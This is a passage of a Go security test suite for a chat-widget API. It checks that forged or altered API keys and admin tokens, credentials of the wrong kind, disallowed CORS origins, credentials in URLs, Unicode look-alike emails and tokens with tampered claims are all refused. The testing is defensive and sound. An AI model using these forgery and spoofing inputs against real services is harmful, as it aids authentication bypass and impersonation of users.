	return presented("api-key-deleted", refusal(401, unauthorized), serverRoutes, tok("deleted key", fixed("Bearer {deleted}")))
}

func apiKeyForgedCases() []Case {
	b := func(name string, key func(f *Fixture) string) credential {
		return tok(name, func(f *Fixture) string { return "Bearer " + key(f) })
	}
	sum := func(f *Fixture) []byte { s := sha256.Sum256([]byte(f.v("A.key"))); return s[:] }
	keys := []credential{
		b("a random sk_ key", func(*Fixture) string { return "sk_" + randHex(24) }),
		b("A's key with its last character changed", func(f *Fixture) string {
			k := f.v("A.key")
			return k[:len(k)-1] + map[bool]string{false: "A", true: "B"}[strings.HasSuffix(k, "A")]
		}),
		tok("A's key with a character appended", fixed("Bearer {A.key}x")),
		b("A's key truncated", func(f *Fixture) string { return f.v("A.key")[:len(f.v("A.key"))-1] }),
		b("A's key in upper case", func(f *Fixture) string { return "sk_" + strings.ToUpper(f.v("A.key")[3:]) }),
		b("A's key with prefix pk_", func(f *Fixture) string { return "pk_" + f.v("A.key")[3:] }),
		b("the SHA-256 (base64url) of A's key", func(f *Fixture) string { return base64.RawURLEncoding.EncodeToString(sum(f)) }),
		b("the SHA-256 (hex) of A's key", func(f *Fixture) string { return "sk_" + hex.EncodeToString(sum(f)) }),
		tok("A's key id as a key", fixed("Bearer sk_{A.keyID}")),
		tok("garbage", fixed("Bearer garbage")),
		tok("A's key without the Bearer scheme", fixed("{A.key}")), tok("A's key with scheme Basic", fixed("Basic {A.key}")),
		tok("A's key with scheme Token", fixed("Token {A.key}")), tok("empty Bearer", fixed("Bearer ")), tok("no Authorization", fixed("")),
	}
	return append(presented("api-key-forged", refusal(401, unauthorized), serverRoutes, keys...),
		repeatedAuthorization("api-key-forged", serverRoutes, "Bearer {A.key}", "Bearer {B.key}")...)
}

func adminForgedCases() []Case {
	return append(presented("admin-token-forged", refusal(401, unauthorized), adminRoutes,
		tok("no Authorization", fixed("")), tok("empty Bearer", fixed("Bearer ")), tok("another token", fixed("Bearer not-the-admin-token")),
		tok("admin token with a character appended", fixed("Bearer {admin}x")),
		tok("admin token truncated", func(f *Fixture) string { return "Bearer " + f.v("admin")[:len(f.v("admin"))-1] }),
		tok("admin token in upper case", func(f *Fixture) string { return "Bearer " + strings.ToUpper(f.v("admin")) }),
		tok("admin token with scheme Basic", fixed("Basic {admin}")), tok("admin token without a scheme", fixed("{admin}")),
	), repeatedAuthorization("admin-token-forged", adminRoutes, "Bearer {admin}", "Bearer not-the-admin-token")...)
}

// repeatedAuthorization: the caller's own credential in a first
// Authorization header and other in a second, on each of routes. The Worker
// reads the two as one value ("Bearer a, Bearer b"), no credential: 401.
func repeatedAuthorization(class string, routes []apiRoute, own, other string) []Case {
	var cs []Case
	for _, rt := range routes {
		cs = append(cs, Case{Class: class, Name: "Authorization twice, the right one first: " + rt.name(), Want: refusal(401, unauthorized),
			Req: func(f *Fixture) Request {
				req := f.req(rt.route(), rt.body, "Authorization", own)
				req.Header.Add("Authorization", f.x(other))
				return req
			}})
	}
	return cs
}

func wrongKindCases() []Case {
	const cl = "credential-wrong-kind"
	no := refusal(401, unauthorized)
	// Widget token, admin token and user tokens as api keys.
	cs := presented(cl, no, serverRoutes, tok("widget token as api key", fixed("Bearer {A.pk}")),
		tok("admin token as api key", fixed("Bearer {admin}")), tok("contact token as api key", fixed("Bearer {CA1}")),
		tok("verified token as api key", fixed("Bearer {V}")))
	for _, rt := range serverRoutes {
		cs = append(cs, call(cl, "widget token in X-Widget-Token, no Authorization: "+rt.name(), rt.route(), rt.body, no, "X-Widget-Token", "{A.pk}"))
	}
	// Api key, widget token, verified token as the admin token.
	cs = append(cs, presented(cl, no, adminRoutes, tok("api key as admin token", fixed("Bearer {A.key}")),
		tok("widget token as admin token", fixed("Bearer {A.pk}")), tok("verified token as admin token", fixed("Bearer {V}")))...)
	// Api key, admin token, user token as the widget token.
	for _, k := range []struct{ name, pk string }{
		{"api key as widget token", "{A.key}"}, {"admin token as widget token", "{admin}"}, {"contact token as widget token", "{CA1}"},
	} {
		cs = append(cs, wcOn(cl, k.name+": POST /v1/widget/contacts", "POST /v1/widget/contacts", k.pk, "", attackContactNameChange, no),
			wcOn(cl, k.name+": POST /v1/widget/sessions", "POST /v1/widget/sessions", k.pk, "{CA1}", attackSessionBody, no))
	}
	// The widget token missing, empty, unknown or of another kind, beside
	// A1's token, from A's page.
	for _, k := range []struct{ name, pk string }{
		{"no widget token", ""}, {"empty widget token", ""}, {"unknown widget token", "pk_" + strings.Repeat("z", 30)},
		{"garbage as widget token", "garbage"}, {"api key as widget token", "{A.key}"}, {"A's widget token with a character appended", "{A.pk}x"},
	} {
		for _, rt := range append([]apiRoute{rContacts}, allRoutes...) {
			cs = append(cs, Case{Class: cl, Name: k.name + ", A1's token, A's origin: " + rt.name(), Want: no, Req: func(f *Fixture) Request {
				r := f.req(rt.route(), rt.body, append([]string{"X-Widget-Token", k.pk, "Authorization", userAuth, "Origin", "{A.origin}"}, rt.more...)...)
				if k.name == "empty widget token" {
					r.Header["X-Widget-Token"] = []string{""}
				}
				return r
			}})
		}
	}
	// No user token; api key, widget token, admin token, garbage as the user token.
	cs = append(cs, presented(cl, no, allRoutes, tok("no user token", fixed("")))...)
	cs = append(cs, presented(cl, refusal(401, invalidToken), allRoutes, tok("api key as user token", fixed("{A.key}")),
		tok("widget token as user token", fixed("{A.pk}")), tok("admin token as user token", fixed("{admin}")),
		tok("garbage as user token", fixed("garbage")), tok("not a JWT (abc.def.ghi) as user token", fixed("abc.def.ghi")))...)
	// The widget token alone, in Authorization.
	return append(cs, wcOn(cl, "widget token in Authorization, no X-Widget-Token: POST /v1/widget/sessions", "POST /v1/widget/sessions", "", "{A.pk}", attackSessionBody, no))
}

// ---- browser origins ----

func corsOriginCases() []Case {
	const cl = "cors-origin-not-allowed"
	origins := []struct{ name, origin string }{
		{"an unknown origin", "{evil}"}, {"origin null", "null"}, {"A's origin as a subdomain of another", "{A.origin}.evil.example"},
		{"A's host over http", "http://{A.host}"}, {"A's host on another port", "{A.origin}:8443"}, {"a subdomain of A's host", "https://www.{A.host}"},
		{"A's origin with a trailing slash", "{A.origin}/"}, {"the origin org B allows", "{B.origin}"}, {"two origins, A's first", "{A.origin}, {evil}"},
	}
	deny := Want{Status: 403, Code: originNotAllowed, NoACAO: true}
	var cs []Case
	for _, o := range origins {
		cs = append(cs, call(cl, o.name+": POST /v1/widget/contacts", "POST /v1/widget/contacts", attackContactNameChange, deny,
			"X-Widget-Token", "{A.pk}", "Origin", o.origin))
	}
	for _, o := range origins {
		for _, rt := range allRoutes {
			cs = append(cs, call(cl, o.name+": "+rt.name(), rt.route(), rt.body, deny,
				append([]string{"X-Widget-Token", rt.pk, "Authorization", rt.auth, "Origin", o.origin}, rt.more...)...))
		}
	}
	return cs
}

func corsPreflightCases() []Case {
	var cs []Case
	for _, o := range []struct{ name, origin string }{
		{"an unknown origin", "{evil}"}, {"origin null", "null"}, {"origin https: (a prefix of every https origin)", "https:"},
		{"origin https:/ (a prefix of every https origin)", "https:/"}, {"origin http:", "http:"},
		{"A's origin as a subdomain of another", "{A.origin}.evil.example"}, {"A's origin with a path", "{A.origin}/x"}, {"the probe origin", "{probe}"},
	} {
		for _, p := range []struct{ name, path string }{
			{"/v1/widget/contacts", "/v1/widget/contacts"}, {"/v1/widget/sessions/{id}/messages", "/v1/widget/sessions/{SA1}/messages"},
		} {
			cs = append(cs, call("cors-preflight-unknown", o.name+": OPTIONS "+p.name, "OPTIONS "+p.path, "", Want{Status: 403, Code: originNotAllowed, NoACAO: true},
				"Origin", o.origin, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type,x-widget-token"))
		}
	}
	return cs
}

func corsServerRouteCases() []Case {
	const cl = "cors-server-routes"
	wrong := "Bearer sk_" + strings.Repeat("0", 40)
	no := Want{Status: 401, Code: unauthorized, NoCORS: true}
	yes := Want{Status: 200, NoCORS: true}
	with := func(name, route, origin, auth, body string, want Want) Case {
		return call(cl, name, route, body, want, "Authorization", auth, "Origin", origin)
	}
	cs := []Case{
		with("A's origin, A's key: GET /v1/sessions", "GET /v1/sessions", "{A.origin}", "Bearer {A.key}", "", yes),
		with("A's origin, A's key: GET /v1/sessions/{id}", "GET /v1/sessions/{SA1}", "{A.origin}", "Bearer {A.key}", "", yes),
		with("unknown origin, A's key: GET /v1/sessions", "GET /v1/sessions", "{evil}", "Bearer {A.key}", "", yes),
		with("A's origin, wrong key: POST /v1/users/authenticate", "POST /v1/users/authenticate", "{A.origin}", wrong, attackAuthenticateBody, no),
		with("A's origin, no key: GET /v1/sessions", "GET /v1/sessions", "{A.origin}", "", "", no),
		with("A's origin, A's key, broken JSON: POST /v1/users/authenticate", "POST /v1/users/authenticate", "{A.origin}", serverAuth, "{",
			Want{Status: 400, Code: invalidJSON, NoCORS: true}),
		with("A's origin, no key: POST /v1/users/revoke", "POST /v1/users/revoke", "{A.origin}", "", attackRevokeVictimBody, no),
		with("A's origin, no key: POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", "{A.origin}", "", attackContent, no),
		with("A's origin, no token: POST /v1/admin/orgs", "POST /v1/admin/orgs", "{A.origin}", "", probeOrgBody, no),
		with("A's origin, wrong token: DELETE /v1/admin/orgs/{A}/api-keys/{id}", "DELETE /v1/admin/orgs/{A.ID}/api-keys/{A.keyID}", "{A.origin}", wrong, "", no),
	}
	for _, rt := range append(serverRoutes, adminRoutes...) {
		cs = append(cs, call(cl, "A's origin: OPTIONS "+strings.TrimPrefix(rt.name(), rt.method+" ")+" for "+rt.method, "OPTIONS "+rt.path, "",
			Want{Status: 405, Code: methodNotAllowed, NoCORS: true},
			"Origin", "{A.origin}", "Access-Control-Request-Method", rt.method, "Access-Control-Request-Headers", "authorization,content-type"))
	}
	return cs
}

// allowsA: A's page may read the answer (Access-Control-Allow-Origin is A's
// origin, Vary names Origin) and, after a preflight, send what it asked: the
// method (unless "") and each of headers.
func allowsA(method string, headers ...string) func(*Fixture, *Response) []string {
	return func(f *Fixture, r *Response) []string {
		var p []string
		list := func(name string) (out []string) {
			for _, v := range r.Header.Values(name) {
				for _, x := range strings.Split(v, ",") {
					out = append(out, strings.ToLower(strings.TrimSpace(x)))
				}
			}
			return out
		}
		if got := r.Header.Get("Access-Control-Allow-Origin"); got != f.v("A.origin") {
			p = append(p, fmt.Sprintf("Access-Control-Allow-Origin %q, want A's origin", got))
		}
		if !slices.Contains(list("Vary"), "origin") {
			p = append(p, "no Vary: Origin on an answer that depends on it")
		}
		if m := list("Access-Control-Allow-Methods"); method != "" && !slices.Contains(m, strings.ToLower(method)) && !slices.Contains(m, "*") {
			p = append(p, fmt.Sprintf("Access-Control-Allow-Methods %v lacks %s", m, method))
		}
		for _, h := range headers {
			if !slices.Contains(list("Access-Control-Allow-Headers"), h) {
				p = append(p, "Access-Control-Allow-Headers lacks "+h)
			}
		}
		return p
	}
}

// ---- security headers ----

func securityHeaderCases() []Case {
	const cl = "security-headers"
	cs := []Case{
		call(cl, "GET /.well-known/jwks.json (public members only)", "GET /.well-known/jwks.json", "", ok(publicJWKS)),
		call(cl, "PUT /v1/sessions (405)", "PUT /v1/sessions", "", refusal(405, methodNotAllowed)),
		wc(cl, "PUT /v1/widget/me (405)", "PUT /v1/widget/me", "{CA1}", "", refusal(405, methodNotAllowed)),
		wc(cl, "GET /v1/widget/me (200)", "GET /v1/widget/me", "{CA1}", "", ok(nil)),
		sc(cl, "GET /v1/sessions (200)", "GET /v1/sessions", "Bearer {A.key}", "", ok(nil)),
		wc(cl, "POST /v1/widget/contacts with broken JSON (400)", "POST /v1/widget/contacts", "", "{", refusal(400, "invalid_json")),
		wc(cl, "POST /v1/widget/contacts with a bad device id (400)", "POST /v1/widget/contacts", "", `{"device_id":"not-a-uuid"}`, refusal(400, "invalid_device_id")),
		sc(cl, "POST /v1/admin/orgs without a token (401)", "POST /v1/admin/orgs", "", probeOrgBody, refusal(401, unauthorized)),
		call(cl, "OPTIONS preflight from A's origin (204)", "OPTIONS /v1/widget/contacts", "", Want{Status: 204, Check: allowsA("POST")},
			"Origin", "{A.origin}", "Access-Control-Request-Method", "POST"),
		call(cl, "GET /v1/widget/sessions from A's origin (200, A's page may read it)", "GET /v1/widget/sessions", "", Want{Status: 200, Check: allowsA("")},
			"X-Widget-Token", "{A.pk}", "Authorization", userAuth, "Origin", "{A.origin}"),
		call(cl, "GET /v1/widget/me, garbage token, from A's origin (401, A's page may read it)", "GET /v1/widget/me", "",
			Want{Status: 401, Code: invalidToken, Check: allowsA("")}, "X-Widget-Token", "{A.pk}", "Authorization", "Bearer garbage", "Origin", "{A.origin}"),
	}
	// Paths of no route, and routes' paths with another method, each sent
	// by the caller of the routes beside it.
	widget, server, vendor := []string{"X-Widget-Token", "{A.pk}", "Authorization", userAuth, "Origin", "{A.origin}"},
		[]string{"Authorization", serverAuth}, []string{"Authorization", vendorAuth}
	for _, r := range []struct {
		h      []string
		status int
		routes []string
	}{
		{nil, 404, []string{"GET /v1/nope", "GET /v1", "GET /v1/", "POST /v2/sessions"}},
		{widget, 404, []string{"GET /v1/widget/nope", "POST /v1/widget/nope", "GET /v1/widget/sessions/{SA1}/messages/x", "GET /v1/widget/sessions/{SA1}/nope"}},
		{server, 404, []string{"GET /v1/sessions/{SA1}/nope", "GET /v1/user", "POST /v1/users/nope"}},
		{vendor, 404, []string{"GET /v1/admin/nope", "POST /v1/admin/orgs/{A.ID}/nope"}},
		{vendor, 405, []string{"PUT /v1/admin/orgs", "PATCH /v1/admin/orgs", "PUT /v1/admin/orgs/{A.ID}/api-keys",
			"PATCH /v1/admin/orgs/{A.ID}/api-keys/{A.keyID}", "PUT /v1/admin/orgs/{A.ID}/api-keys/{A.keyID}"}},
		{server, 405, []string{"GET /v1/users/authenticate", "PUT /v1/users/authenticate", "GET /v1/users/revoke", "POST /v1/sessions",
			"PUT /v1/sessions/{SA1}", "POST /v1/sessions/{SA1}", "PUT /v1/sessions/{SA1}/messages"}},
		{widget, 405, []string{"GET /v1/widget/contacts", "PUT /v1/widget/contacts", "POST /v1/widget/me", "PUT /v1/widget/sessions",
			"PATCH /v1/widget/sessions", "PUT /v1/widget/sessions/{SA1}", "POST /v1/widget/sessions/{SA1}", "PUT /v1/widget/sessions/{SA1}/messages"}},
		{nil, 405, []string{"POST /.well-known/jwks.json", "PUT /.well-known/jwks.json"}},
	} {
		want, body := refusal(404, notFound), ""
		if r.status == 405 {
			want, body = refusal(405, methodNotAllowed), `{"content":"x","name":"x"}`
		}
		for _, rt := range r.routes {
			cs = append(cs, call(cl, fmt.Sprintf("%s (%d), as its caller", rt, r.status), rt, body, want, r.h...))
		}
	}
	// The preflight of every widget route allows what the widget sends.
	asked := []string{"content-type", "authorization", "x-widget-token", "idempotency-key"}
	for _, rt := range append([]apiRoute{rContacts}, allRoutes...) {
		h := asked
		if rt.path == rClaim.path {
			h = append(h[:len(h):len(h)], "x-contact-token")
		}
		cs = append(cs, call(cl, "OPTIONS preflight from A's origin for "+rt.name()+" (204)", "OPTIONS "+rt.path, "", Want{Status: 204, Check: allowsA(rt.method, h...)},
			"Origin", "{A.origin}", "Access-Control-Request-Method", rt.method, "Access-Control-Request-Headers", strings.Join(h, ",")))
	}
	return cs
}

// publicJWKS: every key is an Ed25519 public key for EdDSA, with no private
// or symmetric member.
func publicJWKS(_ *Fixture, r *Response) []string {
	var set struct {
		Keys []map[string]any `json:"keys"`
	}
	if err := json.Unmarshal(r.Body, &set); err != nil || len(set.Keys) == 0 {
		return []string{"the JWKS has no keys"}
	}
	var p []string
	for i, k := range set.Keys {
		for _, private := range []string{"d", "p", "q", "dp", "dq", "qi", "k", "oth"} {
			if _, ok := k[private]; ok {
				p = append(p, fmt.Sprintf("key %d has the private member %q", i, private))
			}
		}
		if k["kty"] != "OKP" || k["crv"] != "Ed25519" || k["alg"] != "EdDSA" {
			p = append(p, fmt.Sprintf("key %d is not an Ed25519 EdDSA key", i))
		}
	}
	return p
}

// credentialInURLCases: a careless client puts a credential in the URL; the
// answer must not repeat it (the runner checks every answer for every
// credential of the fixture).
func credentialInURLCases() []Case {
	const cl = "credential-in-url"
	return []Case{
		sc(cl, "api key in an unknown path", "GET /v1/keys/{A.key}", "", "", refusal(404, notFound)),
		sc(cl, "admin token in an unknown path", "GET /v1/admin/{admin}", "", "", refusal(404, notFound)),
		sc(cl, "api key as a session id", "GET /v1/sessions/{A.key}", "Bearer {A.key}", "", refusal(404, notFound)),
		sc(cl, "api key in the query, no Authorization", "GET /v1/sessions?api_key={A.key}", "", "", refusal(401, unauthorized)),
		wc(cl, "user token in the query, no Authorization", "GET /v1/widget/me?access_token={CA1}", "", "", refusal(401, unauthorized)),
		sc(cl, "api key as the cursor", "GET /v1/sessions?cursor={A.key}", "Bearer {A.key}", "", refusal(400, invalidRequest)),
	}
}

// ---- identity keys, emails, deleted keys, device ids ----

// Issue 19's classes: identity keys of the two kinds never meet, Unicode case
// folding merges no emails, a deleted api key's tokens die with it, and no
// token carries the device id that mints contact tokens.

func identityKindCases() []Case {
	const cl, who = "identity-key-kinds", "a user_id that is the victim's email "
	return []Case{
		wc(cl, who+"lists none of the victim's sessions", "GET /v1/widget/sessions?limit=100", "{Impostor}", "", ok(listExactly())),
		wc(cl, who+"reads the victim's session", "GET /v1/widget/sessions/{SV}", "{Impostor}", "", hiddenWant),
		wc(cl, who+"posts to the victim's session", "POST /v1/widget/sessions/{SV}/messages", "{Impostor}", attackContent, hiddenWant),
		wc(cl, who+"reads the victim's ws-1 session", "GET /v1/widget/sessions/{SVws1}", "{Impostor}", "", hiddenWant),
	}
}

// lookAlikes of an address with a k and an i: Unicode lower-casing makes each
// of them "kim@...", which the contract's ASCII folding does not.
func lookAlikes(domain string) []string {
	return []string{"\u212aim@" + domain, "K\u0130M@" + domain, "k\u0131m@" + domain, "\u212aIM@" + strings.ToUpper(domain), "kim@\u212a" + domain}
}

func caseFoldEmailCases() []Case {
	const cl = "email-case-fold"
	var cs []Case
	invalidEmail := refusal(400, "invalid_email")
	for _, email := range lookAlikes("shop-a.example") {
		q := fmt.Sprintf("%+q", email)
		cs = append(cs,
			sc(cl, "authenticate "+q, "POST /v1/users/authenticate", "Bearer {A.key}", `{"email":"`+email+`","name":"Attacker"}`, invalidEmail),
			sc(cl, "revoke "+q, "POST /v1/users/revoke", "Bearer {A.key}", `{"email":"`+email+`"}`, invalidEmail),
			wc(cl, "contact claiming "+q, "POST /v1/widget/contacts", "", `{"device_id":"{DevA1}","email":"`+email+`"}`, invalidEmail))
	}
	return cs
}

func deletedKeyTokenCases() []Case {
	victims := []apiRoute{rGet.on("{SV}", "{the victim's}"), rPost.on("{SV}", "{the victim's}")}
	return presented("token-of-deleted-api-key", refusal(401, tokenRevoked), slices.Concat(allRoutes, victims),
		tok("victim's token issued by a deleted api key", fixed("{KG}")))
}

// noDeviceInTokens checks every token the fixture was issued: no claim holds
// any of its device ids.
func noDeviceInTokens(f *Fixture, _ *Response) []string {
	var bad []string
	for _, claims := range f.claims {
		for k, v := range claims {
			for _, d := range f.world.Devices {
				if strings.Contains(fmt.Sprint(v), d) {
					bad = append(bad, fmt.Sprintf("a %v token's claim %s holds a device id", claims["kind"], k))
				}
			}
		}
	}
	return bad
}

func deviceInTokenCases() []Case {
	const cl = "token-holds-device"
	return slices.Concat(presented(cl, refusal(401, invalidToken), allRoutes,
		// as contact tokens were before: the device id in sub
		keyTok("genuine signature, A1's device id in sub (the old shape)", resigned(func(f *Fixture, c map[string]any) { c["sub"] = f.v("DevA1") }))),
		presented(cl, refusal(401, invalidToken), writeRoutes,
			keyTok("genuine signature, A2's contact id in sub and A1's in cid", resigned(func(f *Fixture, c map[string]any) { c["sub"] = f.claimsOf("CA2")["sub"] }))),
		[]Case{wc(cl, "no token the worker issued holds a device id", "GET /v1/widget/me", "{CA1}", "", ok(noDeviceInTokens))})
}
